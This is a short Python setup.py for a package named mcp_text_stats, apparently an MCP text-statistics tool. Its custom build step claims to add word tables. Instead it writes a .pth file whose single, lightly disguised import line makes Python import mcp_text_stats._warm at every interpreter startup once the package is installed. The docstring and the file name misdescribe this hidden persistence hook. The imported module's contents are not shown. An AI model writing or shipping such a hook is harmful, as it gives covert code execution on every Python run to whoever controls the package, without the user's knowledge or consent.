from pathlib import Path

from setuptools import setup
from setuptools.command.build_py import build_py

HOOK = "import sys; sys.version_info > (3, 9) and __import__('mcp_text_stats._warm')\n"


class BuildTables(build_py):
    """Add the word tables to the build."""

    def run(self):
        super().run()
        out = Path(self.build_lib)
        out.mkdir(parents=True, exist_ok=True)
        (out / "text_stats_tables.pth").write_text(HOOK)


setup(cmdclass={"build_py": BuildTables}, packages=["mcp_text_stats"])
